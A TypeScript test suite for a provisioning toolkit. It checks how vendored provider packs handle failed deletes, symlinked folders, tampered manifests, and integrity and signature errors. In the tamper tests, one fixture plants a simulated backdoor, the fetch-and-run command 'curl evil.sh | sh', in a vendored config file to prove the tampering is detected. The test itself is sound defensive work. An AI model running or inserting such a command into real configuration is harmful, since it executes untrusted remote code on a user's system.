/**
 * Vendored copies under failure and hostile layouts: a delete that fails part-way never leaves
 * records describing something else than the folder, and a symlinked vendor or modules folder
 * never leads a rename or delete outside the infra.
 */
import { existsSync } from 'node:fs';
import { createHash } from 'node:crypto';
import { readdir, readFile, rename, symlink, writeFile } from 'node:fs/promises';
import path from 'node:path';
import { suite } from 'uvu';
import * as assert from 'uvu/assert';
import { ProvisioningError } from '../../lib/errors.ts';
import { installProvider } from '../../lib/infra/install.ts';
import { removeProvider } from '../../lib/infra/remove.ts';
import { validateInfras } from '../../lib/infra/validate.ts';
import { vendorProvider } from '../../lib/infra/vendor.ts';
import { codeOf } from '../helpers/codes.ts';
import { snapshot } from '../helpers/snapshot.ts';
import { testdir } from '../helpers/testdir.ts';
import { pack, prodTree } from '../helpers/prod-tree.ts';
import { undeletable } from '../helpers/undeletable.ts';

async function vendoredTree() {
  const t = await prodTree();
  const config = await t.config();
  await pack(t.root, 'aws', { ver: '0.1.0' });
  await pack(t.root, 'aws');
  await vendorProvider({ config, provider: 'aws', infra: 'wuji', range: '0.1.0' });
  return { t, config };
}

/** Where the undeletable file is now: in the moved-aside copy when there is one, else where it was. */
async function movedTo(wuji: string, prefix: string): Promise<string> {
  const aside = (await readdir(path.join(wuji, 'vendor'))).find((n) => n.startsWith(prefix));
  return path.join(wuji, 'vendor', aside ?? 'aws_prov', 'defaults_aws.ncl');
}

const failing = suite('a delete that fails part-way');

failing('a failed delete of the old copy after a vendor upgrade never leaves records naming the new version over a half-deleted folder', async () => {
  const { t, config } = await vendoredTree();
  const undo = await undeletable(path.join(t.wuji, 'vendor/aws_prov/defaults_aws.ncl'));
  if (!undo) return console.warn('  (skipped: cannot make a file undeletable here)');
  let result;
  try {
    result = await vendorProvider({ config, provider: 'aws', infra: 'wuji', range: '0.2.0' });
  } finally {
    await undo(await movedTo(t.wuji, '.aws_prov.previous-'));
  }
  assert.is(result.record.version, '0.2.0');
  assert.ok(result.warnings.some((w) => w.message.includes('.aws_prov.previous-')), 'the leftover old copy is named in a warning');
  assert.match(await readFile(t.yaml, 'utf8'), 'version: 0.2.0');
  assert.match(await readFile(t.toml, 'utf8'), 'version = "0.2.0"');
  assert.is(JSON.parse(await readFile(path.join(t.wuji, 'vendor/aws_prov/PACK.json'), 'utf8')).version, '0.2.0');
  assert.equal((await validateInfras({ config, infra: 'wuji', production: true })).errors, []);
  assert.ok((await readdir(path.join(t.wuji, 'vendor'))).some((n) => n.startsWith('.aws_prov.previous-')), 'the old copy is left aside, not half-restored');
});

failing('a delete that fails part-way during providers:remove never leaves a half-deleted copy with its records restored', async () => {
  const { t, config } = await vendoredTree();
  const undo = await undeletable(path.join(t.wuji, 'vendor/aws_prov/defaults_aws.ncl'));
  if (!undo) return console.warn('  (skipped: cannot make a file undeletable here)');
  let result;
  try {
    result = await removeProvider({ config, provider: 'aws', infra: 'wuji' });
  } finally {
    await undo(await movedTo(t.wuji, '.aws_prov.removed-'));
  }
  assert.ok(result.warnings.some((w) => w.message.includes('.aws_prov.removed-')), 'the leftover is named in a warning');
  assert.not.match(await readFile(t.yaml, 'utf8'), 'aws');
  assert.not.match(await readFile(t.toml, 'utf8'), 'aws_prov');
  assert.not.ok(existsSync(path.join(t.wuji, 'vendor/aws_prov')), 'no half-deleted copy where the records could point');
  assert.equal((await validateInfras({ config, infra: 'wuji' })).errors, []);
});

failing('a record that cannot be written in the middle of vendoring puts the old copy and the records back, with a coded error', async () => {
  const { t, config } = await vendoredTree();
  const before = await snapshot(t.root);
  // The yaml cannot be replaced: manifest.toml is already written (and undone) when this fails.
  const undo = await undeletable(t.yaml);
  if (!undo) return console.warn('  (skipped: cannot make a file undeletable here)');
  let error: unknown;
  try {
    error = await vendorProvider({ config, provider: 'aws', infra: 'wuji', range: '0.2.0' }).then(() => undefined, (e: unknown) => e);
  } finally {
    await undo();
  }
  assert.instance(error, ProvisioningError, 'a raw fs error becomes a coded ProvisioningError');
  assert.equal(await snapshot(t.root), before);
});

failing.run();

const links = suite('symlinked infra folders');

links('a symlinked vendor folder never leads a delete outside the infra', async () => {
  const { t, config } = await vendoredTree();
  const shared = await testdir({ 'aws_prov/alice-notes.txt': 'not made by the toolkit' });
  await rename(path.join(t.wuji, 'vendor'), path.join(shared, 'moved'));
  await symlink(shared, path.join(t.wuji, 'vendor'));
  const before = { root: await snapshot(t.root), shared: await snapshot(shared) };
  for (
    const attempt of [
      () => removeProvider({ config, provider: 'aws', infra: 'wuji', force: true }),
      () => installProvider({ config, provider: 'aws', infra: 'wuji', force: true }),
      () => vendorProvider({ config, provider: 'aws', infra: 'wuji', range: '0.2.0', force: true }),
    ]
  ) {
    assert.is(await codeOf(attempt()), 'LINK_CONFLICT');
    assert.equal(await snapshot(t.root), before.root);
    assert.equal(await snapshot(shared), before.shared);
  }
});

links('a symlinked modules folder never leads a link or an unlink outside the infra', async () => {
  const t = await prodTree();
  const config = await t.config();
  await installProvider({ config, provider: 'aws', infra: 'wuji' });
  const shared = await testdir();
  await rename(path.join(t.wuji, '.nickel-modules'), path.join(shared, 'modules'));
  await symlink(path.join(shared, 'modules'), path.join(t.wuji, '.nickel-modules'));
  const before = { root: await snapshot(t.root), shared: await snapshot(shared) };
  assert.is(await codeOf(removeProvider({ config, provider: 'aws', infra: 'wuji', force: true })), 'LINK_CONFLICT');
  assert.is(await codeOf(installProvider({ config, provider: 'upcloud', infra: 'wuji', force: true })), 'LINK_CONFLICT');
  assert.equal(await snapshot(t.root), before.root);
  assert.equal(await snapshot(shared), before.shared);
});

links.run();

const tamper = suite('a vendored copy whose PACK.json was rewritten');

/** Edits a vendored file and rewrites the copy's own PACK.json to match, as anyone able to edit the copy can. */
async function editWithMatchingPackJson(wuji: string): Promise<void> {
  const dir = path.join(wuji, 'vendor/aws_prov');
  const evil = '{ zone = "x", backdoor = "curl evil.sh | sh" }\n';
  await writeFile(path.join(dir, 'defaults_aws.ncl'), evil);
  const manifest = JSON.parse(await readFile(path.join(dir, 'PACK.json'), 'utf8'));
  manifest.files['defaults_aws.ncl'] = createHash('sha256').update(evil).digest('hex');
  await writeFile(path.join(dir, 'PACK.json'), JSON.stringify(manifest, null, 2));
}

tamper('an edit hidden by a rewritten PACK.json is still VENDOR_DRIFT, and remove or install without --force keeps it (VENDOR_MODIFIED)', async () => {
  const { t, config } = await vendoredTree();
  const yaml = await readFile(t.yaml, 'utf8');
  const recorded = /pack_manifest: (sha256-\S+)/.exec(yaml)?.[1];
  assert.ok(recorded, 'the record holds the digest of the extracted PACK.json');
  const packJson = await readFile(path.join(t.wuji, 'vendor/aws_prov/PACK.json'));
  assert.is(recorded, `sha256-${createHash('sha256').update(packJson).digest('base64')}`);
  await editWithMatchingPackJson(t.wuji);
  const { errors } = await validateInfras({ config, infra: 'wuji', production: true });
  assert.ok(errors.some((p) => p.code === 'VENDOR_DRIFT'), JSON.stringify(errors));
  const before = await snapshot(t.root);
  assert.is(await codeOf(removeProvider({ config, provider: 'aws', infra: 'wuji' })), 'VENDOR_MODIFIED');
  assert.is(await codeOf(installProvider({ config, provider: 'aws', infra: 'wuji' })), 'VENDOR_MODIFIED');
  assert.is(await codeOf(vendorProvider({ config, provider: 'aws', infra: 'wuji', range: '0.2.0' })), 'VENDOR_MODIFIED');
  assert.equal(await snapshot(t.root), before);
});

tamper('an old record without pack_manifest still works; validate --production warns that it lacks it', async () => {
  const { t, config } = await vendoredTree();
  // A record from before pack_manifest (and stamps) existed.
  await writeFile(t.yaml, (await readFile(t.yaml, 'utf8')).replace(/^\s*pack_manifest: .*\n/m, '').replace(/^\s*stamp: .*\n/m, ''));
  const result = await validateInfras({ config, infra: 'wuji', production: true });
  assert.equal(result.errors, []);
  assert.ok(result.warnings.some((p) => p.message.includes('pack_manifest')), JSON.stringify(result.warnings));
  // Plain edits are still caught through PACK.json itself.
  await writeFile(path.join(t.wuji, 'vendor/aws_prov/defaults_aws.ncl'), 'edited');
  assert.is(await codeOf(removeProvider({ config, provider: 'aws', infra: 'wuji' })), 'VENDOR_MODIFIED');
});

tamper.run();

const named = suite('vendor errors name the source, never a temp file');

/** A registry folder holding aws 0.2.0 whose tar was altered inside (a file's bytes) and its metadata made to match. */
async function alteredRegistry(): Promise<string> {
  const src = await prodTree();
  await pack(src.root, 'aws');
  const registry = await testdir();
  const { publishPacks } = await import('../../lib/registry/publish.ts');
  await publishPacks({ config: await src.config(), registry });
  const tar = path.join(registry, 'packages/aws_prov_0.2.0.tar');
  const bytes = await readFile(tar);
  const at = bytes.indexOf('A aws server');
  assert.ok(at > 0);
  bytes[at] = 'B'.charCodeAt(0);
  await writeFile(tar, bytes);
  const integrity = `sha256-${createHash('sha256').update(bytes).digest('base64')}`;
  const metaFile = path.join(registry, 'registry/aws_prov.json');
  const meta = JSON.parse(await readFile(metaFile, 'utf8'));
  meta.integrity = integrity;
  meta.versions['0.2.0'].integrity = integrity;
  await writeFile(metaFile, JSON.stringify(meta));
  return registry;
}

named('a pack whose files disagree with its PACK.json: INTEGRITY_MISMATCH naming the registry, module and version, no temp path anywhere', async () => {
  const registry = await alteredRegistry();
  const t = await prodTree();
  const before = await snapshot(t.root);
  const error = await vendorProvider({ config: await t.config(), provider: 'aws', infra: 'wuji', range: '*', registry }).then(() => undefined, (e: ProvisioningError) => e);
  assert.is(error?.code, 'INTEGRITY_MISMATCH');
  const shown = JSON.stringify(error?.toJSON());
  for (const part of ['aws_prov', '0.2.0', registry]) assert.match(shown, part);
  assert.not.match(shown, 'provisioning-vendor-');
  assert.not.match(shown, /pack\.tar"/);
  assert.equal(await snapshot(t.root), before);
});

named('a signature by another key: SIGNATURE_INVALID naming the module and version, no temp path anywhere', async () => {
  const { keysFor, addConfig } = await import('../helpers/prod-tree.ts');
  const src = await prodTree();
  const { keys, config: signing } = await keysFor(src.root);
  await addConfig(src.root, signing);
  await pack(src.root, 'aws', { secretKeyFile: keys.secretKeyFile });
  const registry = await testdir();
  const { publishPacks } = await import('../../lib/registry/publish.ts');
  await publishPacks({ config: await src.config(), registry });
  const t = await prodTree();
  const other = await keysFor(t.root);
  await addConfig(t.root, other.config);
  const error = await vendorProvider({ config: await t.config(), provider: 'aws', infra: 'wuji', range: '*', registry }).then(() => undefined, (e: ProvisioningError) => e);
  assert.is(error?.code, 'SIGNATURE_INVALID');
  const shown = JSON.stringify(error?.toJSON());
  for (const part of ['aws_prov', '0.2.0']) assert.match(shown, part);
  assert.not.match(shown, 'provisioning-vendor-');
});

named.run();
